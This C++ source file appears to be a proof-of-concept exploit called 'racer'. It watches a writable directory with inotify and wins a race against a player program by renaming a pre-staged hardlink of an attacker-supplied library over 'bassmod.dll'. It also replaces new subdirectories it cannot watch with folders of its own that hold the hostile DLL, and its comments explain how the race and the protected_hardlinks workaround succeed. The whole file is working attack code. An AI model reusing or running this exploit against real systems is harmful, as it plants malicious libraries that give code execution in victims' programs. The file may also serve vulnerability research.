// racer DIR LIBRARY: an attack on the player file in a directory the attacker may write to.
// Watches DIR and renames LIBRARY over a "bassmod.dll" once the show has written to it
// (earlier, the show would find its own file unlinked and refuse it). A new folder it may
// watch is watched the same way; one it may not is renamed away and replaced by a folder of
// its own with LIBRARY as its "bassmod.dll". Runs until killed.
#include <cstdio>
#include <fstream>
#include <map>
#include <string>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3)
        return 2;
    // A copy of our own: the links below need a file we own (protected_hardlinks).
    std::string dir = argv[1], spare = dir + "/.racer-spare", own = dir + "/.racer-library";
    std::ifstream library(argv[2], std::ios::binary);
    if (!(std::ofstream(own, std::ios::binary) << library.rdbuf()))
        return 1;
    constexpr uint32_t EVENTS = IN_CREATE | IN_MODIFY;
    int watch = inotify_init1(IN_CLOEXEC);
    std::map<int, std::string> watched; // watch descriptor -> its directory
    int top = inotify_add_watch(watch, argv[1], EVENTS);
    if (watch < 0 || top < 0)
        return 1;
    watched[top] = dir;
    fprintf(stderr, "racer: watching %s\n", argv[1]);
    alignas(inotify_event) char events[4096];
    for (;;) {
        // Prepared before the event, so that one rename is all that the race needs.
        link(own.c_str(), spare.c_str());
        ssize_t length = read(watch, events, sizeof events);
        for (char *at = events; length > 0 && at < events + length;) {
            auto *event = reinterpret_cast<inotify_event *>(at);
            at += sizeof(inotify_event) + event->len;
            std::string name = event->len ? event->name : "";
            std::string path = watched[event->wd] + "/" + name;
            if (name == "bassmod.dll" && (event->mask & IN_MODIFY)) {
                rename(spare.c_str(), path.c_str());
            } else if ((event->mask & IN_ISDIR) && event->wd == top &&
                       name.rfind(".racer", 0) != 0) {
                int inner = inotify_add_watch(watch, path.c_str(), EVENTS);
                if (inner >= 0)
                    watched[inner] = path;
                else if (rename(path.c_str(), (dir + "/.racer-moved-" + name).c_str()) == 0 &&
                         mkdir(path.c_str(), 0755) == 0)
                    rename(spare.c_str(), (path + "/bassmod.dll").c_str());
            }
            link(own.c_str(), spare.c_str());
        }
    }
}
